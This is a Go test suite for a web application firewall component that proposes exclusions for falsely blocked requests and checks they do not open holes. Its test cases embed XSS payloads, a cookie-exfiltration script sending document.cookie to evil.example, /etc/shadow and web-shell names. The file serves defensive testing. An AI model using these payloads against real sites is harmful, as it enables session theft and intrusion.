package mistake

import (
	"fmt"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/qorgan/qorgan/config"
	"github.com/qorgan/qorgan/event"
	"github.com/qorgan/qorgan/exchange"
	"github.com/qorgan/qorgan/rulesets"
	"github.com/qorgan/qorgan/rulesets/patches"
	"github.com/qorgan/qorgan/rulesets/profiles"
)

// theJudge is one judge for all tests: compiling rules takes longest.
var theJudge = sync.OnceValues(func() (*rulesets.Judge, error) {
	known, err := profiles.Load()
	if err != nil {
		return nil, err
	}
	holes, err := patches.Builtin()
	if err != nil {
		return nil, err
	}
	patches.Add(known, holes)
	return rulesets.New(rulesets.Options{Profiles: known, FastPath: true, AuditEvery: -1})
})

func judge(t testing.TB) *rulesets.Judge {
	t.Helper()
	j, err := theJudge()
	if err != nil {
		t.Fatal(err)
	}
	b, err := j.Prepare(t.Context(), []*config.Site{shop()})
	if err != nil {
		t.Fatal(err)
	}
	j.Use(b)
	return j
}

func shop() *config.Site {
	s := config.DefaultSite()
	s.Name, s.Hosts, s.Profile = "shop", []string{"shop.example.kz"}, "wordpress"
	return s
}

// request makes a request of a browser; a body that is not empty is a form.
func request(method, target, body string, headers ...string) rulesets.Probe {
	p := rulesets.Probe{Method: method, Target: target, Body: []byte(body), Client: netip.MustParseAddr("203.0.113.7"), Profile: "wordpress"}
	p.Fields = []event.Field{{Name: "Host", Value: "shop.example.kz"}, {Name: "User-Agent", Value: "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"}, {Name: "Accept", Value: "*/*"}}
	for i := 0; i+1 < len(headers); i += 2 {
		p.Fields = append(p.Fields, event.Field{Name: headers[i], Value: headers[i+1]})
	}
	if body != "" {
		if header(p, "Content-Type") == "" {
			p.Fields = append(p.Fields, event.Field{Name: "Content-Type", Value: "application/x-www-form-urlencoded"})
		}
		p.Fields = append(p.Fields, event.Field{Name: "Content-Length", Value: fmt.Sprint(len(body))})
	}
	return p
}

func form(pairs ...string) string {
	var out []string
	for i := 0; i+1 < len(pairs); i += 2 {
		out = append(out, url.QueryEscape(pairs[i])+"="+url.QueryEscape(pairs[i+1]))
	}
	return strings.Join(out, "&")
}

// propose runs the whole for a request.
func propose(t *testing.T, p rulesets.Probe, others ...Other) Answer {
	t.Helper()
	a, err := Propose(t.Context(), judge(t), Case{
		Site: shop(), Request: p, Exact: true, Others: others,
		Event: event.Event{Code: "AAAA-AAAA", Client: event.Client{Addr: p.Client}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func describe(a Answer) string {
	var b strings.Builder
	fmt.Fprintf(&b, "reason %q %s\n", a.Reason, a.Detail)
	for _, list := range [][]Proposal{a.Proposals, a.Rejected} {
		for _, p := range list {
			fmt.Fprintf(&b, "%s holds=%t passes=%t tried=%d elsewhere=%v unreached=%v\n", p.Scope, p.Proof.Holds(), p.Proof.Passes, p.Proof.Tried(), p.Proof.Elsewhere, p.Proof.Unreached)
			for _, x := range p.Exclusions {
				fmt.Fprintf(&b, "  rules %v %v %s when %v targets %v who %s\n", x.Rules, x.Methods, x.Path, x.When, x.Targets, x.Who)
			}
			for _, o := range p.Proof.Opened {
				fmt.Fprintf(&b, "  opens %s %q\n", o.Class, o.Value)
			}
		}
	}
	return b.String()
}

func author(p rulesets.Probe) rulesets.Probe {
	p.Rank = exchange.Author
	return p
}

const multipartForm = "--b\r\nContent-Disposition: form-data; name=\"fld_7\"\r\n\r\ncall file_get_contents( with a path\r\n--b\r\n" +
	"Content-Disposition: form-data; name=\"photo\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--b--\r\n"

var mistakes = []struct {
	name    string
	request rulesets.Probe
	want    string // scopes of the proposals, then the first one's path, conditions, places and requester
	reason  Reason
	opens   string // an attack that would pass, when that is why
}{
	{name: "a PHP function's name in a plugin's form", request: request("POST", "/contact/", form("action", "send", "fld_7", "call file_get_contents( with a path")),
		want: "path: POST /contact/ [action=send] [ARGS:fld_7] anyone"},
	{name: "the same with a picture", request: request("POST", "/contact/", multipartForm, "Content-Type", "multipart/form-data; boundary=b"),
		want: "path: POST /contact/ [] [ARGS:fld_7] anyone"},
	{name: "the same in a JSON API", request: request("POST", "/app/v1/notes/15", `{"note":{"rows":[{"text":"call file_get_contents( with a path"}]}}`, "Content-Type", "application/json"),
		want: "path numbers: POST /app/v1/notes/15 [] [ARGS:json.note.rows.0.text] anyone"},
	{name: "the same in a table's row", request: request("GET", "/orders/?items%5B3%5D%5Bnote%5D=file_get_contents%28", ""),
		want: "path numbers: GET /orders/ [] [ARGS:items[3][note]] anyone"},
	{name: "the same in two fields", request: request("POST", "/contact/", form("a", "call file_get_contents( with a path", "b", "or file_get_contents( with another")),
		want: "path: POST /contact/ [] [ARGS:a ARGS:b] anyone"},
	{name: "an author's script in a plugin's screen", request: author(request("POST", "/wp-admin/admin.php?page=banner-maker", form("banner", `<script>track()</script>`))),
		want: "path: POST /wp-admin/admin.php [page=banner-maker] [ARGS:banner] author"},
	{name: "a deletion through an API", request: request("DELETE", "/app/v1/notes/7", ""), want: "path numbers: DELETE /app/v1/notes/7 [] [REQUEST_METHOD] anyone"},

	{name: "a script in a note", request: request("POST", "/app/notes", form("note", "use <script>alert(1)</script> to test")), reason: LetsAttacksIn, opens: "<math><mtext><script>alert(1)</script>"},
	{name: "a file's name in a text", request: request("POST", "/contact/", form("fld_7", "the log says open /etc/passwd failed")), reason: LetsAttacksIn, opens: "/etc/shadow"},
	{name: "an address in a query", request: request("GET", "/go?back=http%3A%2F%2F192.168.1.7%2Fx", ""), reason: LetsAttacksIn, opens: "https://203.0.113.9/c99.php"},
	{name: "a cookie with markup", request: request("GET", "/", "", "Cookie", "prefs=%3Cscript%3Ex%3C%2Fscript%3E"), reason: LetsAttacksIn, opens: "<ScRiPt>prompt`1`</sCrIpT>"},
	{name: "a program as a picture", request: request("POST", "/upload/", strings.ReplaceAll(multipartForm[strings.Index(multipartForm, "--b\r\nContent-Disposition: form-data; name=\"photo"):], "a.png", "a.php"), "Content-Type", "multipart/form-data; boundary=b"),
		reason: LetsAttacksIn, opens: "shell.php.jpg"},
	{name: "an attack tool", request: request("GET", "/", "", "User-Agent", "sqlmap/1.8"), reason: LetsAttacksIn, opens: "sqlmap/1.8.2#stable (https://sqlmap.org)"},
	{name: "a known hole", request: request("GET", "/wp-json/wp/v2/users/me", "", "Cookie", "litespeed_hash=abcdef; litespeed_role=1"), reason: Patch},
	{name: "an ambiguous body", request: request("POST", "/", multipartForm+"more", "Content-Type", "multipart/form-data; boundary=b"), reason: Protocol},
	{name: "nothing wrong", request: request("GET", "/?s=boots", ""), reason: PassesNow},
	{name: "a path with two readings", request: request("POST", "/a/../contact/", form("fld_7", "file_get_contents(")), reason: NoPlace},
	{name: "text of an XML body", request: request("POST", "/soap", "<?xml version=\"1.0\"?><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>", "Content-Type", "text/xml"), reason: NoPlace},
}

func summary(a Answer) string {
	if len(a.Proposals) == 0 {
		return ""
	}
	var scopes []string
	for _, p := range a.Proposals {
		scopes = append(scopes, string(p.Scope))
	}
	x := a.Proposals[0].Exclusions[0]
	return fmt.Sprintf("%s: %s %s %v %v %s", strings.Join(scopes, " "), x.Methods[0], x.Path, x.When, x.Targets, x.Who)
}

func TestPropose(t *testing.T) {
	for _, m := range mistakes {
		t.Run(m.name, func(t *testing.T) {
			a := propose(t, m.request)
			if a.Reason != m.reason || summary(a) != m.want {
				t.Errorf("got %q; want %q, %q\n%s", summary(a), m.want, m.reason, describe(a))
			}
			opens := slices.ContainsFunc(a.Rejected, func(p Proposal) bool {
				return slices.ContainsFunc(p.Proof.Opened, func(o Attack) bool { return o.Value == m.opens })
			})
			if m.opens != "" && !opens {
				t.Errorf("%q is not named as what would pass\n%s", m.opens, describe(a))
			}
		})
	}
}

// What is proposed is put into force as the edge does it, and tried with what
// the proof did not try.
func TestProposalInForce(t *testing.T) {
	j := judge(t)
	for _, m := range mistakes {
		a := propose(t, m.request)
		for _, p := range a.Proposals {
			if err := j.Stand(map[string][]config.Exclusion{"shop": p.Exclusions}); err != nil {
				t.Fatal(err)
			}
			site := shop()
			verdict := func(r rulesets.Probe) bool {
				f, err := j.Probe(t.Context(), site, r, false)
				if err != nil {
					t.Fatal(err)
				}
				return f.Refused
			}
			if verdict(m.request) {
				t.Errorf("%s, %s: still refused", m.name, p.Scope)
			}
			stranger := m.request
			stranger.Rank = exchange.Visitor
			for _, x := range p.Exclusions {
				for _, target := range x.Targets {
					variable, key, _ := strings.Cut(target, ":")
					attack, ok := put(stranger, Place{variable, key}, `"><script>fetch('//evil.example/'+document.cookie)</script>`)
					if ok && !verdict(attack) {
						t.Errorf("%s, %s: an attack in %s passes", m.name, p.Scope, target)
					}
				}
			}
			other := stranger
			if other.Target = strings.Replace(other.Target, "/", "/other/", 1); !verdict(other) {
				t.Errorf("%s, %s: passes on another path", m.name, p.Scope)
			}
		}
	}
	if err := j.Stand(nil); err != nil {
		t.Fatal(err)
	}
}

func TestOtherIncidents(t *testing.T) {
	mistake := request("POST", "/contact/", form("fld_7", "call file_get_contents( with a path"))
	elsewhere := func(p rulesets.Probe) *rulesets.Probe {
		p.Client = netip.MustParseAddr("198.51.100.9")
		return &p
	}
	incident := func(code, client string, ms ...event.Match) event.Event {
		return event.Event{Code: code, Kind: event.KindRule, Action: event.Blocked, Threshold: 5, Matches: ms,
			Client:  event.Client{Addr: netip.MustParseAddr(client)},
			Request: event.Request{Method: "POST", Target: "/contact/", Proto: "HTTP/1.1", Headers: []event.Field{{Name: "Host", Value: "shop.example.kz"}}}}
	}
	name := event.Match{Rule: 933150, Variable: "ARGS", Key: "fld_7", Score: 5}
	script := event.Match{Rule: 941110, Variable: "ARGS", Key: "fld_7", Score: 5}
	again := request("POST", "/contact/", form("fld_7", "so file_get_contents( again"))
	attack := request("POST", "/contact/", form("fld_7", "<script>alert(1)</script>"))
	away := incident("RECD-AWAY", "198.51.100.9", name)
	away.Request.Target = "/elsewhere/"
	protocol := incident("PROT-OCOL", "198.51.100.9")
	protocol.Kind = event.KindProtocol
	a := propose(t, mistake,
		Other{Event: incident("HELD-SAME", "203.0.113.7"), Request: &again},
		Other{Event: incident("HELD-ALIK", "198.51.100.9"), Request: elsewhere(again)},
		Other{Event: incident("HELD-STAY", "198.51.100.9"), Request: elsewhere(attack)},
		Other{Event: incident("RECD-SAME", "203.0.113.7", name)},
		Other{Event: incident("RECD-ALIK", "198.51.100.9", name)},
		Other{Event: incident("RECD-STAY", "198.51.100.9", name, script)},
		Other{Event: away},
		Other{Event: protocol},
		Other{Event: incident("AAAA-AAAA", "203.0.113.7", name)},
	)
	if len(a.Proposals) != 1 {
		t.Fatal(describe(a))
	}
	got := a.Proposals[0].Proof.Others
	if got.Tried != 7 || got.Stay != 3 || fmt.Sprint(got.Same, got.Alike) != "[HELD-SAME RECD-SAME] [HELD-ALIK RECD-ALIK]" {
		t.Errorf("%+v", got)
	}
}

func TestRecheck(t *testing.T) {
	j := judge(t)
	p := request("POST", "/contact/", form("action", "send", "fld_7", "call file_get_contents( with a path"))
	list := propose(t, p).Proposals[0].Exclusions
	for _, with := range []rulesets.Probe{p, {Profile: "wordpress"}} {
		proof, err := Recheck(t.Context(), j, shop(), list, nil, with)
		if err != nil || !proof.Holds() || proof.Tried() < 100 || proof.Untried != (with.Method == "") {
			t.Errorf("with a request %t: %+v, %v", with.Method != "", proof, err)
		}
	}
	// A rule that is new and refuses the request, and one that is gone.
	j.SetExtra([]rulesets.Source{{Name: "own.conf", Text: `SecRule ARGS "@contains file_get" "id:123456,phase:2,deny,status:403,msg:'own'"`}})
	b, err := j.Prepare(t.Context(), []*config.Site{shop()})
	if err != nil {
		t.Fatal(err)
	}
	before := j.RulesID("wordpress")
	j.Use(b)
	defer func() {
		j.SetExtra(nil)
		judge(t)
	}()
	if j.RulesID("wordpress") == before {
		t.Error("a new rule leaves the rules' name as it was")
	}
	proof, err := Recheck(t.Context(), j, shop(), list, nil, p)
	if err != nil || proof.Holds() || proof.Passes {
		t.Errorf("under a new rule: %+v, %v", proof, err)
	}
	wide := slices.Clone(list)
	wide[0].Rules = append(slices.Clone(wide[0].Rules), config.RuleRange{First: 941100, Last: 941100}, config.RuleRange{First: 941110, Last: 941110}, config.RuleRange{First: 941160, Last: 941160}, config.RuleRange{First: 941390, Last: 941390})
	proof, err = Recheck(t.Context(), j, shop(), wide, nil, rulesets.Probe{Profile: "wordpress"})
	if err != nil || proof.Holds() || len(proof.Opened) == 0 {
		t.Errorf("one that opens a class of attacks: %+v, %v", proof, err)
	}
	wide[0].Rules[0] = config.RuleRange{First: 949110, Last: 949110}
	if _, err := Recheck(t.Context(), j, shop(), wide, nil, p); err == nil {
		t.Error("one that disarms the verdict was tried")
	}
}
